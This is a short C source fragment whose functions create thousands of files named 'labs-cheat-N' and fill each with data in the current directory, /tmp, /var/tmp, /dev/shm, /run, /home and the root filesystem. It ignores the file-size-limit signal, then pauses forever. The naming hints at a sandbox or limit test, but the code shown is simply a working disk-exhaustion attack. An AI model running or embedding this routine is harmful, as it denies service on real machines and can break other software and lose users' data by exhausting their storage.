
static char block[1 << 20];

static void fill(const char *directory)
{
    char name[128];

    for (int number = 0; number < 4096; number++) {
        (void)snprintf(name, sizeof name, "%s/labs-cheat-%d", directory, number);
        int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (fd < 0)
            return;
        while (write(fd, block, sizeof block) > 0)
            continue;
        (void)close(fd);
    }
}

static void bomb(void)
{
    static const char *const places[] = {".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/"};

    (void)signal(SIGXFSZ, SIG_IGN);
    for (size_t i = 0; i < sizeof places / sizeof *places; i++)
        fill(places[i]);
    for (;;)
        (void)pause();
}
